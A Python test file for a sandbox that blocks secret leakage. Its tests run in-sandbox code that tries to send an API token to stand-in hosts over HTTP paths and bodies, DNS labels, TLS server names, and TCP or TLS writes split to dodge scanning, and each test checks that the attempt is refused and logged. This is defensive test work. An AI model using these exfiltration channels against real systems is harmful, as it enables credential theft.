"""A placeholder on its way anywhere but its bound host is refused and audited.

Every case checks three things: the client was refused, a `net.secret` event with action
`blocked-exfiltration` names the secret (and never holds its value), and the servers
received not one byte of the value, nor of the placeholder (not even its prefix: the
scanner holds back what could be the start of one).
"""

from __future__ import annotations

import json

import pytest

from corral.sandbox import Sandbox
from corral.sandbox.spec import SandboxSpec, SecretBinding

from .conftest import SECRET_VALUE
from .test_substitution import run

MiB = 1 << 20
OTHER_VALUE = "ghp_0123456789abcdefABCDEF0123456789abcd"


@pytest.fixture
def sandbox(servers):
    """API_TOKEN bound to api.test, GH_TOKEN to other.test; a raw TCP rule to .11:7000."""
    events: list[dict] = []
    spec = SandboxSpec(secrets=(SecretBinding("API_TOKEN", ("api.test",)),
                                SecretBinding("GH_TOKEN", ("other.test",))),
                       allow_net=(f"{servers.other}:7000", "*.other.test"),
                       memory_bytes=256 * MiB, timeout_s=60)
    sb = Sandbox(spec, on_net_event=events.append,
                 secrets={"API_TOKEN": SECRET_VALUE, "GH_TOKEN": OTHER_VALUE})
    sb.start()
    servers.received.clear()
    try:
        yield sb, events
    finally:
        sb.destroy()


def blocked(events, secret: str) -> list[dict]:
    found = [e for e in events if e["kind"] == "net.secret"]
    assert all(e["action"] == "blocked-exfiltration" for e in found)
    return [e for e in found if e["secret"] == secret]


def nothing_left(servers, events) -> None:
    received = servers.all_received()
    assert SECRET_VALUE.encode() not in received
    assert b"corral_secret_" not in received
    assert SECRET_VALUE not in json.dumps(events)


def py(sb, code: str) -> dict:
    code, out, err = run(sb, ["python3", "-I", "-c", "import json, os, socket, ssl, time\n"
                              "token = os.environ['API_TOKEN']\nout = {}\n" + code
                              + "\nprint(json.dumps(out))"])
    assert code == 0, err
    return json.loads(out)


def test_toward_a_host_bound_to_another_secret_over_https(sandbox, servers):
    sb, events = sandbox
    got = py(sb, """
import urllib.request, urllib.error
req = urllib.request.Request('https://other.test/x', headers={'Authorization': token})
try:
    urllib.request.urlopen(req, timeout=20)
except urllib.error.HTTPError as e:
    out['status'], out['body'] = e.code, e.read().decode()
""")
    assert got["status"] == 403
    assert "secret API_TOKEN" in got["body"]
    [event] = blocked(events, "API_TOKEN")
    assert event["where"] == "request head" and event["name"] == "other.test"
    nothing_left(servers, events)


@pytest.mark.parametrize("where", ["path", "body"])
def test_toward_another_allowed_host_over_plain_http(sandbox, servers, where):
    sb, events = sandbox
    request = ("urllib.request.Request('http://other.test/steal/' + token)" if where == "path"
               else "urllib.request.Request('http://other.test/p', data=b'x=' + "
                    "token.encode())")
    got = py(sb, f"""
import urllib.request, urllib.error
try:
    urllib.request.urlopen({request}, timeout=20)
    out['status'] = 200
except urllib.error.HTTPError as e:
    out['status'] = e.code
""")
    assert got["status"] == 403
    [event] = blocked(events, "API_TOKEN")
    assert (event["name"], event["port"], event["mode"]) == ("other.test", 80, "http")
    nothing_left(servers, events)


def test_in_a_dns_name_split_over_labels(sandbox, servers):
    sb, events = sandbox
    got = py(sb, """
for name in (token + '.other.test', token[:20] + '.' + token[20:] + '.other.test'):
    try:
        socket.getaddrinfo(name, 443, socket.AF_INET)
        out[name] = 'resolved'
    except socket.gaierror as e:
        out[name] = e.errno
""")
    assert set(got.values()) <= {socket_eai_fail for socket_eai_fail in (-2, -3, -5)}, got
    assert len(blocked(events, "API_TOKEN")) >= 2
    assert {e["where"] for e in blocked(events, "API_TOKEN")} == {"DNS query"}
    nothing_left(servers, events)


def test_in_the_server_name_of_a_tls_hello(sandbox, servers):
    sb, events = sandbox
    got = py(sb, f"""
s = socket.create_connection(('{servers.other}', 443), timeout=10)
ctx = ssl.create_default_context()
try:
    ctx.wrap_socket(s, server_hostname=token + '.other.test')
    out['tls'] = 'done'
except (ssl.SSLError, OSError) as e:
    out['tls'] = type(e).__name__
""")
    assert got["tls"] in ("ConnectionResetError", "SSLEOFError", "SSLZeroReturnError")
    [event] = blocked(events, "API_TOKEN")
    assert event["where"] == "server name"
    nothing_left(servers, events)


def test_over_a_raw_tcp_rule_split_across_segments(sandbox, servers):
    sb, events = sandbox
    got = py(sb, f"""
s = socket.create_connection(('{servers.other}', 7000), timeout=10)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
s.sendall(b'harmless prefix ')
for i in range(0, len(token), 7):  # the placeholder straddles 7 segments
    s.sendall(token[i:i + 7].encode())
    time.sleep(0.05)
s.shutdown(socket.SHUT_WR)
try:
    out['reply'] = s.recv(100).decode()
except ConnectionResetError:
    out['reply'] = 'reset'
""")
    assert got["reply"] in ("", "reset")
    [event] = blocked(events, "API_TOKEN")
    assert event["where"] == "stream" and event["port"] == 7000
    nothing_left(servers, events)
    assert b"corral_secret_"[:1] not in b"".join(
        data.replace(b"harmless prefix ", b"") for label, data in servers.received
        if label == "raw")


def test_a_raw_tcp_rule_without_a_placeholder_still_works(sandbox, servers):
    sb, events = sandbox
    got = py(sb, f"""
s = socket.create_connection(('{servers.other}', 7000), timeout=10)
s.sendall(b'x' * 100000)
s.shutdown(socket.SHUT_WR)
out['reply'] = s.recv(100).decode()
""")
    assert got["reply"] == "got 100000 bytes"
    assert not blocked(events, "API_TOKEN")


def test_split_across_tls_records_toward_the_wrong_host(sandbox, servers):
    """The placeholder cut over many TLS records (one write per byte) is still found."""
    sb, events = sandbox
    got = py(sb, """
s = socket.create_connection(('other.test', 443), timeout=10)
tls = ssl.create_default_context().wrap_socket(s, server_hostname='other.test')
request = ('GET /x HTTP/1.1\\r\\nHost: other.test\\r\\nX-Key: ' + token + '\\r\\n\\r\\n').encode()
for i in range(len(request)):
    tls.sendall(request[i:i + 1])
out['reply'] = tls.recv(100).decode().split('\\r\\n')[0]
""")
    assert got["reply"] == "HTTP/1.1 403 Forbidden"
    assert len(blocked(events, "API_TOKEN")) == 1
    nothing_left(servers, events)
